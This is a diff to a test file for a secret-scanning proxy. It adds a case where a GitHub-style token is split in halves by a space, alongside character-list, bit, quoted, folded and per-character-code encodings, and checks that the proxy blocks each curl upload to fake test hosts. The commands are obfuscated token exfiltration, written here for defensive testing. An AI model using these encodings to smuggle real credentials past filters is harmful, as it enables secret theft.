@@ -377,7 +377,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "a token printed as a list of its characters (Node's `[...token]`), as each byte's bits, written in quoted pieces in code, cut into short lines (`fold -w 8`) or as a character's code a line (`od -An -tu1 -w1`) is refused",
+      "a token printed as a list of its characters (Node's `[...token]`), as each byte's bits, written in quoted pieces in code, cut into short lines (`fold -w 8`), as a character's code a line (`od -An -tu1 -w1`) or split in halves by a space is refused",
       async () => {
         const printed = await sh(
           `node -e 'console.log([...process.argv[1]])' '${token}' | ` +
@@ -394,13 +394,26 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "https://plain.fake.test/v1/folded; echo; cat /tmp/refused; echo; " +
             `printf '%s' '${token}' | od -An -v -tu1 -w1 | ` +
             "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- " +
-            "https://plain.fake.test/v1/codes; echo; cat /tmp/refused",
+            "https://plain.fake.test/v1/codes; echo; cat /tmp/refused; echo; " +
+            `printf '%s %s' '${token.slice(0, 20)}' '${token.slice(20)}' | ` +
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- " +
+            "https://plain.fake.test/v1/split; echo; cat /tmp/refused",
         );
         assert.match(printed.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
         assert.match(printed.stdout, /\n403\n.*in the body, in quoted pieces/);
         assert.match(printed.stdout, /\n403\n.*in the body, cut into short lines/);
-        assert.equal(printed.stdout.match(/^403$/gm)?.length, 5, printed.stdout);
-        for (const path of ["/v1/list", "/v1/bits", "/v1/quoted", "/v1/folded", "/v1/codes"]) {
+        assert.match(printed.stdout, /\n403\n.*in the body, split by spaces/);
+        assert.equal(printed.stdout.match(/^403$/gm)?.length, 6, printed.stdout);
+        for (
+          const path of [
+            "/v1/list",
+            "/v1/bits",
+            "/v1/quoted",
+            "/v1/folded",
+            "/v1/codes",
+            "/v1/split",
+          ]
+        ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
         }
       },
